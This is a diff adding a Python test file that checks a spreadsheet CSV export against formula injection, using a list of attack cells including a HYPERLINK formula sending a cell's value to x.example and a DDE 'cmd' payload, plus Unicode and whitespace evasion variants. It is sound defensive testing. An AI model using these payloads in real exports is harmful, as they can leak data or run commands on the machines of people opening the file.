@@ -1,0 +1,71 @@
+"""A spreadsheet shows what people typed, and runs none of it."""
+
+from __future__ import annotations
+
+import csv
+import re
+from io import StringIO
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from services.training import sheets
+
+ATTACKS = (
+    '=HYPERLINK("http://x.example?"&A1;"klik")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "'=1+1",
+    '"=1+1',
+    "\x00=1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "a,=1+1",
+    ',"=1+1',
+)
+FORMULA = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")
+texts = st.text(st.characters()) | st.sampled_from(ATTACKS) | st.text("=+-@;,\t\r\n\"' ＝a", max_size=8)
+
+
+def opened(file: bytes, separator: str = ";") -> list[list[str]]:
+    return list(csv.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=separator))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_known_attack_stays_a_formula(attack: str) -> None:
+    [[_], [cell]] = opened(sheets.csv(["naam"], [[attack]]))
+    assert re.match(r"(|a?,)'", cell)
+
+
+@given(st.lists(st.lists(texts, min_size=3, max_size=3)))
+@example([["a,=1+1", 'b\t=1+1";=1', "c\n=1+1"]])
+def test_no_text_is_a_formula_whatever_the_reader_takes_for_a_separator(rows: list[list[str]]) -> None:
+    file = sheets.csv(["a", "b", "c"], rows)
+    assert [len(row) for row in opened(file)] == [3] * (len(rows) + 1)
+    for separator in ";,\t":
+        assert [cell for row in opened(file, separator) for cell in row if FORMULA.match(cell)] == []
+
+
+@given(st.lists(st.lists(st.from_regex(r"[\w][\w ;,\"'.-]*", fullmatch=True), min_size=2, max_size=2)))
+def test_what_is_no_formula_comes_back_as_it_was(rows: list[list[str]]) -> None:
+    assert opened(sheets.csv(["organisatie", "functie"], rows))[1:] == rows
+
+
+def test_a_belgian_spreadsheet_opens_it_without_a_question() -> None:
+    file = sheets.csv(["Prénom", "Aantal"], [["Zoë", 3], [None, -1.5]])
+    assert file == '\ufeff"Prénom";"Aantal"\r\n"Zoë";3\r\n"";-1.5\r\n'.encode()
+
+
+def test_half_a_sign_does_not_lose_the_sheet() -> None:
+    assert opened(sheets.csv(["naam"], [["a\ud800b"]]))[1] == ["a b"]
